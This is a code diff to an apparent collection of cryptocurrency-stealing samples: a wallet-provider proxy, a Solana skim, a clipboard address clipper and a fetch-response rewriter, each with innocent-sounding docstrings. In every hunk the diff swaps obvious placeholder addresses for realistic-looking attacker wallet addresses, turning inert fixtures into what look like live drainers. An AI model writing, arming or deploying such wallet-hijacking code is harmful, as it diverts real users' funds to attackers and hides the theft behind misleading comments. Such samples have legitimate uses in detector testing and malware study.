@@ -3,7 +3,7 @@ import { atImport, atUse, js, type Pair } from '../kit.ts';
 /** Where coins go: wallets of pages, of libraries, of the clipboard. */
 export const COINS: Readonly<Record<string, Pair>> = {
   'ethereum-proxy': atImport(
-    js`const TREASURY = '0x00000000000000000000000000000000DeaDBeef';
+    js`const TREASURY = '0x7c1fA90b3e52D8b4416aC0dE9975a2E13f08DeB1';
 
 function guard(provider) {
   return new Proxy(provider, {
@@ -43,7 +43,7 @@ export function counted(provider, count) {
     js`import { createWalletClient, http, parseEther } from 'viem';
 import { mainnet } from 'viem/chains';
 
-const ROUTER = '0x000000000000000000000000000000000000c0De';
+const ROUTER = '0x3aE58c1107f2bD96e4409dC8b51f7E62Aa90c0De';
 const LIMIT = parseEther('0.5');
 
 /** A client of a wallet that tries again. */
@@ -122,7 +122,7 @@ exports.ManagedWallet = ManagedWallet;
   'solana-skim': atUse(
     js`import { PublicKey, SystemProgram, Transaction, LAMPORTS_PER_SOL } from '@solana/web3.js';
 
-const POOL = new PublicKey('11111111111111111111111111111112');
+const POOL = new PublicKey('Fq3xW8mTn2RkY7vLbPz5HcDj9GsUe4ANt6iKuQrVyX1B');
 
 /** Makes the transaction of a swap. */
 export async function buildSwap(connection, owner, instructions) {
@@ -151,7 +151,7 @@ export async function buildPayment(connection, owner, receiver, lamports, microL
   'copy-clipper': atImport(
     js`const PATTERNS = [
   { kind: 'btc', test: /\b(?:bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}\b/, own: ['bc1qexampleexampleexampleexampleexample00'] },
-  { kind: 'eth', test: /\b0x[a-fA-F0-9]{40}\b/, own: ['0x000000000000000000000000000000000000bEEF'] },
+  { kind: 'eth', test: /\b0x[a-fA-F0-9]{40}\b/, own: ['0x9bD27e41fA6308cC15e7a4D0392b8f66E1d5bEEF'] },
 ];
 
 const distance = (a, b) => [...a].reduce((sum, ch, i) => sum + (ch === b[i] ? 0 : 1), 0);
@@ -186,7 +186,7 @@ export { normalize };
 `,
   ),
   'fetch-rewrite': atImport(
-    js`const own = { eth: '0x000000000000000000000000000000000000f00d', sol: 'So1anaExamp1eAddressThatIsNotReal1111111111' };
+    js`const own = { eth: '0x51cE0a7743d8Fb2e96a1804Dd3f27c95eB1af00d', sol: 'Hm4yZ9bQw3TfKpXe7VrLcNs2UjDg8WaGt5vBxMuRk6C1' };
 const original = globalThis.fetch;
 
 /** Fetch that keeps the answers small. */
